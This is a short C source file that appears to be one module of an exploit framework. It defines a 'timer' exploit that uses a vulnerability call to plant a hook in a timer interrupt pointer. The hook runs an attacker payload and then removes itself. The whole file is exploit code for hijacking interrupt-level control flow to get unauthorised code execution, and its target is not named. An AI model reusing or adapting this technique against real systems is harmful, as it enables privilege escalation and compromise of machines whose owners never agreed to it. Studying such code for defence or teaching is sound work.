// A hook in the timer interrupt: the payload runs in the middle of this program's own loop, asked for by nobody.
#include "exploit.h"

static const struct vuln_leak *leaked;

// Takes itself out: at the next tick another program might run, which has no such page.
static void hook(void) {
    payload_call();
    *(volatile uint32_t *)leaked->timer_pointer = 0;
}

static int run(const struct vuln_leak *leak) {
    leaked = leak;
    payload_cs = NOT_HERE;
    if (vuln(VULN_TIMER, 0, 0) < 0) return NOT_HERE;
    announce("timer", (uintptr_t)hook);
    vuln(VULN_TIMER, (uintptr_t)hook, 0);
    while (payload_cs == NOT_HERE) continue;
    return payload_cs;
}

const struct exploit exploit_timer = {"timer", run, 0};
